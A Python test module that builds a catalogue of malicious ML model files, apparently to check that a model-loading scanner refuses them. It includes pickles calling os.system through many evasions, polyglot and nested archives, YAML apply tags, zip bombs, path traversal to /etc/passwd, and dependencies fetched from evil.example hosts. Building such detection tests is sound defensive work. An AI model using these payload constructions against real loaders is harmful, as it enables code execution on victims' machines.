"""Artifacts that would run a command if a loader took them: the command makes a marker file."""

from __future__ import annotations

import bz2
import codecs
import gzip
import io
import json
import lzma
import os
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from tests.trust import raw

Files = dict[str, bytes]
Builder = Callable[[str], Files]
CORPUS: dict[str, Bad] = {}


@dataclass(frozen=True)
class Bad:
    """One artifact.

    :param files: its files, from the command that it would run.
    :param also: policies, as words, under which it must be refused as well.
    """

    files: Builder
    also: tuple[str, ...] = ()


class Call:
    """Pickles as a call."""

    def __init__(self, function: Any, *args: Any) -> None:
        self.function, self.args = function, args

    def __reduce__(self) -> tuple[Any, ...]:
        return self.function, self.args


def bad(*also: str, name: str | None = None) -> Callable[[Builder], Builder]:
    def add(build: Builder) -> Builder:
        CORPUS[name or build.__name__] = Bad(build, also)
        return build

    return add


def call(command: str, protocol: int = 4) -> bytes:
    return pickle.dumps(Call(os.system, command), protocol)


def mlmodel(**settings: Any) -> bytes:
    """An MLmodel of a scikit-learn model, with other settings of ``python_function``."""
    import yaml

    loader = {"loader_module": "mlflow.sklearn", "model_path": "model.skops", "predict_fn": "predict", **settings}
    return yaml.safe_dump({"flavors": {"python_function": loader}}).encode()


def skops(schema: dict[str, Any], **files: bytes) -> bytes:
    return raw.zipped({**files, "schema.json": json.dumps({"protocol": 2, **schema}).encode()})


def typed(module: str, name: str, loader: str, **more: Any) -> dict[str, Any]:
    return {"__module__": module, "__class__": name, "__loader__": loader, **more}


# Pickles by themselves.

for _protocol in range(6):
    CORPUS[f"pickle of protocol {_protocol}"] = Bad(
        lambda command, protocol=_protocol: {"model.pkl": call(command, protocol)}, ("pickle",)
    )
for _name in (
    "model.json",
    "model.skops",
    "notes.txt",
    "model.onnx",
    "model.safetensors",
    "weights.npy",
    "MLmodel.yaml",
):
    CORPUS[f"pickle named {_name}"] = Bad(lambda command, name=_name: {name: call(command)}, ("pickle", "unknown"))
    CORPUS[f"pickle of text named {_name}"] = Bad(lambda command, name=_name: {name: call(command, 0)}, ("pickle",))
for _name, _pack in (
    ("gzip", gzip.compress),
    ("bzip2", bz2.compress),
    ("xz", lzma.compress),
    ("lzma", lambda data: lzma.compress(data, lzma.FORMAT_ALONE)),
    ("zlib", zlib.compress),
):
    CORPUS[f"pickle in {_name}"] = Bad(
        lambda command, pack=_pack: {"model.pkl": pack(call(command))}, ("pickle", "unknown")
    )


@bad("pickle")
def pickle_that_is_cut_after_its_call(command: str) -> Files:
    return {"model.txt": call(command, 0)[:-1], "two.pkl": call(command)[:-1] + b"\xff garbage"}


@bad("pickle")
def pickle_behind_a_megabyte_of_nothing(command: str) -> Files:
    return {"model.pkl": b"\x80\x04" + b"N0" * 500_000 + call(command)}


@bad("pickle")
def second_pickle_in_the_stream(command: str) -> Files:
    return {"model.pkl": pickle.dumps({"harmless": 1}) + pickle.dumps([2]) + call(command)}


@bad("pickle")
def second_pickle_behind_one_of_text(command: str) -> Files:
    return {"model.txt": b"I1\n." + call(command, 0)}


@bad("pickle")
def instance_opcode(command: str) -> Files:
    return {"model.pkl": b"(S'" + command.encode() + b"'\nios\nsystem\n."}


@bad("pickle")
def object_opcode(command: str) -> Files:
    return {"model.pkl": b"(cos\nsystem\nS'" + command.encode() + b"'\no."}


@bad("pickle")
def names_from_the_memo(command: str) -> Files:
    text = struct.pack("<I", len(command)) + command.encode()
    body = b"\x8c\x06system\x94\x8c\x05posix\x94\x8c\x08builtins\x9400h\x01h\x00\x93X" + text + b"\x85R."
    return {"model.pkl": b"\x80\x04" + body}


@bad("pickle")
def memo_entry_with_a_number_full_of_zeros(command: str) -> Files:
    memo = b"S'harmless'\np0\n0S'os'\np1\n0S'system'\np2\n0g" + b"0" * 40 + b"1\ng" + b"0" * 40 + b"2\n\x93"
    return {"model.pkl": b"\x80\x04" + memo + b"(S'" + command.encode() + b"'\ntR."}


@bad("pickle")
def number_in_another_base_first(command: str) -> Files:
    return {
        "a.txt": b"I0x1\n0" + call(command, 0),
        "b.txt": b"F1e-1_0\n0" + call(command, 0),
        "c.txt": b"I1\0\n0" + call(command, 0),
    }


@bad("pickle")
def name_put_together_by_a_call(command: str) -> Files:
    joined = b"c_codecs\nencode\n(Vflfgrz\nVrot13\ntR"
    return {"model.pkl": b"\x80\x04\x8c\x02os" + joined + b"\x93(V" + command.encode() + b"\ntR."}


@bad("pickle")
def extension_code(command: str) -> Files:
    return {"model.pkl": b"\x80\x02\x82\x01(V" + command.encode() + b"\ntR."}


@bad("pickle")
def call_of_what_a_call_gave(command: str) -> Files:
    getter = b"cbuiltins\ngetattr\n(cbuiltins\n__import__\n(Vos\ntRVsystem\ntR"
    return {"model.pkl": getter + b"(V" + command.encode() + b"\ntR."}


@bad("pickle")
def attribute_path_in_a_harmless_package(command: str) -> Files:
    path = b"\x80\x04\x8c\x07sklearn\x8c\x0futils.os.system\x93\x8c"
    return {"model.pkl": path + bytes([len(command)]) + command.encode() + b"\x85R."}


@bad("pickle")
def class_given_another_method(command: str) -> Files:
    target = b"csklearn.linear_model._base\nLinearRegression\n"
    return {"model.pkl": target + b"}Vpredict\ncbuiltins\ndict\nsb."}


@bad("pickle")
def state_of_an_allowed_object_holds_a_call(command: str) -> Files:
    made = b"ccopyreg\n_reconstructor\n(csklearn.linear_model._base\nLinearRegression\ncbuiltins\nobject\nNtR"
    return {"model.pkl": made + b"(Vcoef_\n" + call(command, 0)[:-1] + b"db."}


for _target in (
    ("operator", "methodcaller"),
    ("importlib", "import_module"),
    ("numpy", "load"),
    ("pydoc", "pipepager"),
    ("timeit", "timeit"),
    ("cProfile", "run"),
    ("runpy", "run_path"),
    ("builtins", "eval"),
    ("builtins", "getattr"),
    ("functools", "partial"),
    ("subprocess", "Popen"),
    ("webbrowser", "open"),
    ("torch.hub", "load"),
    ("joblib", "load"),
    ("sklearn.utils._testing", "Popen"),
    ("logging.config", "fileConfig"),
):
    CORPUS[f"pickle that calls {'.'.join(_target)}"] = Bad(
        lambda command, target=_target: {
            "model.pkl": f"c{target[0]}\n{target[1]}\n(V{command}\ntR.".encode(),
            "MLmodel": mlmodel(model_path="model.pkl"),
        },
        ("pickle",),
    )


# Pickles in other files.


@bad("pickle")
def joblib_file(command: str) -> Files:
    import joblib

    buffer = io.BytesIO()
    joblib.dump({"weights": _array(), "call": Call(os.system, command)}, buffer)
    return {"model.joblib": buffer.getvalue()}


@bad("pickle")
def joblib_array_of_objects(command: str) -> Files:
    import joblib
    import numpy as np

    buffer = io.BytesIO()
    joblib.dump(np.array([1, Call(os.system, command)], dtype=object), buffer)
    return {"model.joblib": buffer.getvalue()}


@bad("pickle")
def pickle_where_joblib_would_see_numbers(command: str) -> Files:
    import joblib
    import numpy as np

    code = b"0" + call(command, 0)
    buffer = io.BytesIO()
    joblib.dump(np.frombuffer(code + b" " * (64 - len(code) % 64), "u1"), buffer)
    data = buffer.getvalue()
    at = data.index(code)
    # Without an alignment the numbers begin right behind the opcode: plain unpickling runs them.
    return {
        "model.pkl": data[: at - 1 - data[at - 1]].replace(
            b"numpy_array_alignment_bytes", b"numpy_array_alignment_bytez"
        )
        + data[at:]
    }


@bad("pickle")
def joblib_record_that_is_longer_than_its_name_says(command: str) -> Files:
    import joblib
    import numpy as np

    hidden = call(command).ljust(256, b".")
    buffer = io.BytesIO()
    joblib.dump(np.frombuffer(hidden, "V8"), buffer)
    return {"model.joblib": buffer.getvalue().replace(b"\x8c\x02V8", b"\x8c\x02V1"), "x.pkl": call(command)}


@bad("pickle")
def torch_checkpoint(command: str) -> Files:
    parts = {"data.pkl": call(command, 2), "version": b"3\n", "data/0": b"\0" * 64, "byteorder": b"little"}
    return {"model.pt": raw.zipped({f"archive/{name}": data for name, data in parts.items()})}


@bad("pickle")
def torch_checkpoint_of_the_old_form(command: str) -> Files:
    head = (
        b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19." + pickle.dumps(1001, 2) + pickle.dumps({"little_endian": True}, 2)
    )
    return {"model.pt": head + call(command, 2) + pickle.dumps([], 2) + b"\0" * 64}


@bad("torchscript", "pickle, torchscript")
def torchscript_constants(command: str) -> Files:
    parts = {"constants.pkl": call(command, 2), "code/__torch__.py": b"class M(Module):\n  pass\n", "version": b"3\n"}
    return {"model.pt": raw.zipped({f"m/{name}": data for name, data in parts.items()})}


@bad("torchscript")
def torchscript_beside_a_checkpoint(command: str) -> Files:
    parts = {"m/code/x.py": b"", "m/constants.pkl": pickle.dumps((), 2), "n/data.pkl": call(command, 2)}
    return {"model.pt": raw.zipped(parts)}


@bad("pickle")
def numpy_array_of_objects(command: str) -> Files:
    return {"weights.npy": raw.npy("'|O'", "(1,)", call(command))}


@bad("pickle")
def numpy_record_with_an_object(command: str) -> Files:
    return {"weights.npy": raw.npy("[('a', '<f8'), ('b', '|O')]", "(1,)", call(command))}


@bad("pickle")
def numpy_type_by_another_name(command: str) -> Files:
    return {"a.npy": raw.npy("'object'", "(1,)", call(command)), "b.npy": raw.npy("'f8, O'", "(1,)", call(command))}


@bad("pickle")
def npz_with_an_array_of_objects(command: str) -> Files:
    good, wrong = raw.npy("'<f8'", "(1,)", b"\0" * 8), raw.npy("'|O'", "()", call(command))
    return {"weights.npz": raw.zipped({"a.npy": good, "b.npy": wrong})}


@bad("pickle")
def second_array_in_one_file(command: str) -> Files:
    return {"weights.npy": raw.npy("'<f8'", "(1,)", b"\0" * 8) + raw.npy("'|O'", "()", call(command))}


@bad("pickle", "unknown")
def pickle_in_a_zip_archive(command: str) -> Files:
    return {
        "model.zip": raw.zipped({"readme.txt": b"x", "inner/data.bin": call(command)}, compression=zipfile.ZIP_DEFLATED)
    }


@bad("pickle", "unknown")
def pickle_in_zip_in_zip_in_gzip_in_tar(command: str) -> Files:
    inner = raw.zipped({"a.zip": raw.zipped({"b.txt": call(command, 0)}, compression=zipfile.ZIP_BZIP2)})
    return {"model.tar": raw.tarred(("x/y.gz", gzip.compress(inner)))}


@bad("unknown")
def archives_without_end(command: str) -> Files:
    data = call(command)
    for _ in range(12):
        data = raw.zipped({"x.zip": data})
    return {"model.zip": data}


# Files that are two things at once.


@bad("pickle")
def zip_behind_a_pickle(command: str) -> Files:
    return {"model.skops": call(command) + raw.zipped({"a.npy": raw.npy("'<f8'", "(1,)", b"\0" * 8)})}


@bad("pickle")
def pickle_before_a_zip_that_names_its_place(command: str) -> Files:
    buffer = io.BytesIO(call(command))
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr("a.npy", raw.npy("'<f8'", "(1,)", b"\0" * 8))
    return {"weights.npz": buffer.getvalue()}


@bad("pickle", "unknown")
def pickle_between_the_files_of_a_zip(command: str) -> Files:
    data = raw.zipped({"a.txt": b"a"})
    at = data.index(b"PK\x01\x02")
    end = data[:at] + call(command) + data[at:-6] + struct.pack("<I", at + len(call(command))) + data[-2:]
    return {"model.zip": end}


@bad("pickle", "unknown")
def zip_in_the_comment_of_a_zip(command: str) -> Files:
    inner = raw.zipped({"data.pkl": call(command)})
    data = raw.zipped({"a.txt": b"a"})
    return {"model.zip": data[:-2] + struct.pack("<H", len(inner)) + inner}


@bad("pickle")
def text_that_is_a_tar_archive(command: str) -> Files:
    return {"notes.txt": raw.tarred(("b.pkl", call(command, 0)))}


@bad("pickle")
def safetensors_that_is_a_pickle(command: str) -> Files:
    """The length of its header begins with the opcode of a string, and more of them leap to the numbers: a call."""
    code = call(command, 0)
    leaps = ("U~" + "x" * 126) * 10 + "UT"
    rest = f'":{{"dtype":"U8","shape":[{len(code)}],"data_offsets":[0,{len(code)}]}}}}'.ljust(84)
    header = f'{{"{leaps}{rest}'.encode()
    assert len(header) == 0x558
    return {"model.safetensors": raw.safetensors(header, code)}


# skops.


@bad("pickle")
def skops_with_a_foreign_type(command: str) -> Files:
    content = {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode", "content": json.dumps([command])}
    return {"model.skops": skops(typed("posix", "system", "ConstructorFromReduceNode", content=content))}


@bad("pickle")
def skops_with_a_method(command: str) -> Files:
    owner = typed("builtins", "str", "JsonNode", content='"x"')
    node = typed("builtins", "str", "MethodNode", content={"func": "format", "obj": owner})
    return {"model.skops": skops(node)}


@bad("pickle")
def skops_with_a_function_of_operator(command: str) -> Files:
    arguments = typed("builtins", "tuple", "TupleNode", content=[typed("builtins", "str", "JsonNode", content='"x"')])
    return {"model.skops": skops(typed("operator", "methodcaller", "OperatorFuncNode", attrs=arguments))}


@bad("pickle")
def skops_with_a_foreign_type_deep_inside(command: str) -> Files:
    inner = typed("os", "system", "FunctionNode")
    attributes = {"func": typed("builtins", "dict", "DictNode", content={"x": inner}, key_types=[])}
    node = typed("sklearn.preprocessing._function_transformer", "FunctionTransformer", "ObjectNode", content=attributes)
    return {"model.skops": skops(node)}


@bad("pickle")
def skops_of_the_first_protocol(command: str) -> Files:
    function = typed("numpy", "exp", "FunctionNode", content={"module_path": "os", "function": "system"})
    return {"model.skops": skops({"protocol": 0, **function})}


@bad("pickle")
def skops_with_a_key_given_twice(command: str) -> Files:
    first, last = '"__module__": "os", "__class__": "system"', '"__module__": "numpy", "__class__": "exp"'
    text = f'{{{first}, "__loader__": "TypeNode", {last}}}'
    return {"model.skops": raw.zipped({"schema.json": text.encode()})}


@bad("pickle")
def skops_with_a_trees_nodes(command: str) -> Files:
    return {"model.skops": skops(typed("sklearn.tree._tree", "Tree", "TreeNode", content={}, __reduce__={}))}


@bad("pickle")
def skops_array_of_objects(command: str) -> Files:
    array = typed("numpy", "ndarray", "NdArrayNode", type="numpy", file="1.npy")
    return {"model.skops": skops(array, **{"1.npy": raw.npy("'|O'", "(1,)", call(command))})}


@bad("pickle")
def skops_generator_of_another_name(command: str) -> Files:
    name = typed("builtins", "str", "JsonNode", content='"test"')
    state = typed("builtins", "dict", "DictNode", content={"bit_generator": name})
    node = typed("numpy.random._generator", "Generator", "RandomGeneratorNode", content={"bit_generator": state})
    return {"model.skops": skops(node)}


# MLmodel.


@bad("pickle")
def loader_module_of_its_own(command: str) -> Files:
    return {"MLmodel": mlmodel(loader_module="evil_loader")}


@bad()
def loader_that_unpickles(command: str) -> Files:
    return {
        "MLmodel": mlmodel(loader_module="mlflow.pyfunc.model", python_model="python_model.json"),
        "python_model.json": b"{}",
    }


@bad("pickle")
def code_folder(command: str) -> Files:
    return {"MLmodel": mlmodel(code="code"), "code/hidden.txt": f"import os; os.system({command!r})".encode()}


@bad("pickle")
def model_from_code(command: str) -> Files:
    settings = {"loader_module": "mlflow.pyfunc.loaders.code_model", "model_code_path": "model.txt"}
    return {"MLmodel": mlmodel(**settings), "model.txt": f"import os; os.system({command!r})".encode()}


@bad("pickle", "code")
def data_outside_the_artifact(command: str) -> Files:
    return {"MLmodel": mlmodel(data="../../other/model")}


@bad("pickle", "code")
def model_at_an_absolute_path(command: str) -> Files:
    return {"MLmodel": mlmodel(model_path="/tmp/model.pkl")}


@bad("pickle", "code")
def model_at_a_url(command: str) -> Files:
    return {"MLmodel": mlmodel(model_path="https://example.com/model.pkl")}


@bad()
def serialized_by_cloudpickle(command: str) -> Files:
    flavor = {"pickled_model": "model.bin", "serialization_format": "cloudpickle"}
    return {"MLmodel": json.dumps({"flavors": {"sklearn": flavor}}).encode(), "model.bin": b"text"}


@bad("pickle", "code")
def flavor_that_nobody_knows(command: str) -> Files:
    return {"MLmodel": b"flavors: {langchain: {model_load_fn: x}}\n"}


@bad("pickle", "code")
def booster_of_another_class(command: str) -> Files:
    flavor = {"data": "m.json", "model_class": "evil.module.Class"}
    return {"MLmodel": json.dumps({"flavors": {"xgboost": flavor}}).encode(), "m.json": b"{}"}


@bad("pickle", "code")
def keras_module_of_another_name(command: str) -> Files:
    flavor = {"data": "data", "keras_module": "evil", "model_type": "keras"}
    return {"MLmodel": json.dumps({"flavors": {"tensorflow": flavor}}).encode(), "data/x": b""}


@bad("pickle", "code")
def pickle_module_of_another_name(command: str) -> Files:
    return {"data/pickle_module_info.txt": b"evil.pickle_module", "data/x": b"x"}


@bad("pickle", "code")
def types_that_skops_shall_trust(command: str) -> Files:
    flavor = {"pickled_model": "m.txt", "serialization_format": "skops", "skops_trusted_types": ["posix.system"]}
    return {"MLmodel": json.dumps({"flavors": {"sklearn": flavor}}).encode(), "m.txt": b""}


@bad("pickle", "code")
def provider_with_a_library(command: str) -> Files:
    flavor = {"data": "m.txt", "providers": [["QNNExecutionProvider", {"backend_path": "evil.so"}]]}
    return {"MLmodel": json.dumps({"flavors": {"onnx": flavor}}).encode(), "m.txt": b""}


@bad("pickle", "code")
def yaml_that_calls(command: str) -> Files:
    return {"MLmodel": f'flavors: !!python/object/apply:os.system ["{command}"]\n'.encode()}


@bad("pickle", "code")
def yaml_that_calls_by_a_whole_tag(command: str) -> Files:
    text = f'%TAG !x! tag:yaml.org,2002:python/object/\n---\na: !x!apply:os.system ["{command}"]\n'
    return {
        "conda.yaml": text.encode(),
        "b.yaml": f'a: !<tag:yaml.org,2002:python/object/apply:os.system> ["{command}"]'.encode(),
    }


@bad("pickle", "code")
def yaml_that_fills_the_memory(command: str) -> Files:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 10)]
    return {"conda.yaml": "\n".join(lines).encode()}


@bad("pickle", "code")
def yaml_that_holds_itself(command: str) -> Files:
    return {"MLmodel": b"flavors: &f {sklearn: *f}\n"}


@bad("pickle", "code")
def requirements_from_elsewhere(command: str) -> Files:
    return {"requirements.txt": b"scikit-learn==1.9.1\n--index-url http://evil.example/simple\n"}


@bad("pickle", "code")
def requirement_from_a_repository(command: str) -> Files:
    return {"conda.yaml": b"dependencies:\n- pip:\n  - evil @ git+https://evil.example/evil\n"}


# Other formats.


@bad("pickle", "code")
def onnx_data_outside(command: str) -> Files:
    return {"model.onnx": raw.onnx(tensors=(raw.external("../../etc/passwd"),))}


@bad("pickle", "code")
def onnx_data_at_an_absolute_path(command: str) -> Files:
    return {"model.onnx": raw.onnx(tensors=(raw.external("/etc/passwd"),))}


@bad("pickle", "code")
def onnx_data_that_is_not_listed(command: str) -> Files:
    return {"model.onnx": raw.onnx(tensors=(raw.external("weights.bin"),))}


@bad("pickle")
def onnx_data_that_is_a_pickle(command: str) -> Files:
    return {"model.onnx": raw.onnx(tensors=(raw.external("weights.bin"),)), "weights.bin": call(command)}


@bad("pickle", "code")
def onnx_data_in_a_nested_graph(command: str) -> Files:
    graph = raw.field(5, raw.external("../x"))
    return {"model.onnx": raw.onnx(raw.node("If", attribute=raw.field(1, "then") + raw.field(6, graph)))}


@bad("pickle")
def onnx_operators_of_a_library(command: str) -> Files:
    return {"model.onnx": raw.onnx(raw.node("Evil", "evil.ops"))}


@bad("pickle", "code")
def onnx_with_an_engine_of_an_accelerator(command: str) -> Files:
    return {"model.onnx": raw.onnx(raw.node("EPContext", "com.microsoft"))}


@bad("pickle", "onnx")
def saved_model_that_looks_like_onnx(command: str) -> Files:
    return {"saved_model.pb": raw.onnx() + raw.saved_model("EagerPyFunc")}


@bad("unknown")
def safetensors_with_a_header_beyond_its_end(command: str) -> Files:
    return {"model.safetensors": raw.safetensors(b'{"a": {}}', b"", length=99_000_000)}


@bad("unknown")
def safetensors_that_overlap(command: str) -> Files:
    tensor = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}
    return {"model.safetensors": raw.safetensors({"a": tensor, "b": tensor}, b"\0" * 8)}


@bad("unknown")
def safetensors_with_a_hole(command: str) -> Files:
    tensors = {"a": {"dtype": "U8", "shape": [8], "data_offsets": [100, 108]}}
    return {"model.safetensors": raw.safetensors(tensors, call(command).ljust(108, b"\0"))}


@bad("keras", "keras, pickle")
def keras_lambda(command: str) -> Files:
    code = {"class_name": "__lambda__", "config": {"code": codecs.encode(b"4wEAAAA", "base64").decode()}}
    layer = {"module": "keras.layers", "class_name": "Lambda", "config": {"function": code}, "registered_name": None}
    return {"model.keras": raw.keras(layer)}


@bad("keras")
def keras_layer_of_another_module(command: str) -> Files:
    layer = {"module": "os", "class_name": "System", "config": {"command": command}, "registered_name": None}
    return {"model.keras": raw.keras(layer)}


@bad("keras")
def keras_layer_that_is_registered(command: str) -> Files:
    layer = {"module": None, "class_name": "Mine", "config": {}, "registered_name": "Custom>Mine"}
    return {"model.keras": raw.keras(layer)}


@bad("keras")
def keras_function_of_its_tools(command: str) -> Files:
    layer = {
        "module": "keras.utils",
        "class_name": "get_file",
        "config": {"origin": "http://evil"},
        "registered_name": None,
    }
    return {"model.keras": raw.keras(layer)}


@bad("keras")
def keras_lambda_in_hdf5(command: str) -> Files:
    head = b"\x89HDF\r\n\x1a\n" + b"\0" * 100
    plain = head + b'{"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda"}]}}' + b"\0" * 50
    return {"model.h5": plain, "b.h5": b"\0" * 512 + head + b'{"class_name": "L\\u0061mbda"}'}


@bad("keras", name="keras architecture as json")
def keras_json(command: str) -> Files:
    layers = b'"layers": [{"class_name": "L\\u0061mbda", "config": {}}]'
    return {"model.json": b'{"class_name": "Sequential", "config": {' + layers + b"}}"}


@bad("tensorflow_saved_model")
def saved_model_that_calls_python(command: str) -> Files:
    return {"saved_model.pb": raw.saved_model("MatMul", "PyFunc")}


@bad("tensorflow_saved_model")
def saved_model_that_writes_files_in_a_function(command: str) -> Files:
    return {"model/saved_model.pb": raw.saved_model("WriteFile", in_function=True)}


@bad("tensorflow_saved_model")
def saved_model_of_text(command: str) -> Files:
    return {"saved_model.pbtxt": b'meta_graphs { graph_def { node { op: "PyFunc" } } }'}


@bad("pickle", "unknown")
def native_library(command: str) -> Files:
    return {"libevil.so": b"\x7fELF\x02\x01\x01" + b"\0" * 100}


@bad("pickle", "unknown")
def native_library_by_another_name(command: str) -> Files:
    return {"weights.bin": b"\x7fELF\x02\x01\x01" + b"\0" * 100}


@bad("pickle", "unknown")
def python_beside_the_model(command: str) -> Files:
    return {"sitecustomize.py": f"import os; os.system({command!r})".encode()}


@bad("pickle", "unknown")
def compiled_python(command: str) -> Files:
    import importlib.util

    return {"weights.dat": importlib.util.MAGIC_NUMBER + b"\0" * 12 + b"\xe3" + b"\0" * 20}


@bad("pickle", "unknown")
def shell_script(command: str) -> Files:
    return {"readme": f"#!/bin/sh\n{command}\n".encode()}


@bad("pickle", "unknown")
def java_classes(command: str) -> Files:
    return {
        "model.zip": raw.zipped({"META-INF/MANIFEST.MF": b"Main-Class: X\n", "X.bin": b"\xca\xfe\xba\xbe" + b"\0" * 60})
    }


@bad("pickle", "code")
def classes_for_transformers(command: str) -> Files:
    return {
        "config.json": b'{"model_type": "x", "auto_map": {"AutoModel": "evil/repo--modeling.Evil"}}',
        "x.pkl": call(command),
    }


@bad()
def zip_bomb(command: str) -> Files:
    return {"model.zip": raw.zipped({"zeros.txt": b" " * (300 << 20)}, compression=zipfile.ZIP_DEFLATED)}


@bad()
def bombs_one_inside_the_other(command: str) -> Files:
    inner = gzip.compress(b" " * (20 << 20))
    return {"model.zip": raw.zipped({f"{n}.gz": inner for n in range(20)})}


@bad("pickle", "unknown", "code")
def zip_whose_files_share_their_bytes(command: str) -> Files:
    data = raw.zipped({"a.txt": b"x" * 100, "b.txt": b"x" * 100})
    second = data.rindex(b"PK\x01\x02")
    return {"model.zip": data[: second + 42] + b"\0\0\0\0" + data[second + 46 :]}


@bad("pickle", "unknown", "code")
def zip_that_leaves_its_folder(command: str) -> Files:
    return {"model.zip": raw.zipped({"../../evil.txt": b"x"})}


@bad("pickle", "unknown", "code")
def zip_with_a_link(command: str) -> Files:
    info = zipfile.ZipInfo("link")
    info.external_attr = 0o120777 << 16
    return {"model.zip": raw.zipped({info: b"/etc/passwd"})}  # type: ignore[dict-item]


@bad("pickle", "unknown", "code")
def encrypted_zip(command: str) -> Files:
    data = bytearray(raw.zipped({"a.txt": b"secret"}))
    data[6] |= 1
    data[data.index(b"PK\x01\x02") + 8] |= 1
    return {"model.zip": bytes(data)}


@bad("pickle", "unknown", "code")
def zip_with_a_name_twice(command: str) -> Files:
    data = raw.zipped({"aa.txt": b"harmless", "bb.txt": b"the other"})
    return {"model.zip": data.replace(b"bb.txt", b"aa.txt")}


@bad("pickle", "unknown", "code")
def tar_with_a_link(command: str) -> Files:
    link = tarfile.TarInfo("weights.bin")
    link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
    return {"model.tar": raw.tarred((link, b""))}


@bad("pickle", "unknown", "code")
def tar_that_leaves_its_folder(command: str) -> Files:
    return {"model.tar": raw.tarred(("../evil.txt", b"x"))}


@bad("pickle", "unknown", "code")
def tar_whose_header_changes_a_size(command: str) -> Files:
    info = tarfile.TarInfo("a.txt")
    info.pax_headers = {"size": "0"}
    return {"model.tar": raw.tarred((info, call(command)), format=tarfile.PAX_FORMAT)}


@bad("pickle", "code")
def arrow_column_that_is_unpickled(command: str) -> Files:
    import pyarrow as pa

    field = pa.field("x", pa.int64(), metadata={"ARROW:extension:name": "arrow.py_extension_type"})
    table = pa.table([pa.array([1])], schema=pa.schema([field]))
    buffer = io.BytesIO()
    with pa.ipc.new_file(buffer, table.schema) as out:
        out.write_table(table)
    return {"data.arrow": buffer.getvalue()}


@bad("pickle", "code")
def parquet_column_that_is_unpickled(command: str) -> Files:
    import pyarrow as pa
    import pyarrow.parquet as pq

    field = pa.field("x", pa.int64(), metadata={"ARROW:extension:name": "arrow.py_extension_type"})
    buffer = io.BytesIO()
    pq.write_table(pa.table([pa.array([1])], schema=pa.schema([field])), buffer)
    return {"data.parquet": buffer.getvalue()}


@bad("pickle", "code")
def bytes_of_no_format(command: str) -> Files:
    return {"model.bin": bytes(range(256)) * 4}


def write(folder: Path, files: Files) -> Path:
    for name, data in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data)
    return folder


def _array() -> Any:
    import numpy as np

    return np.arange(10.0)
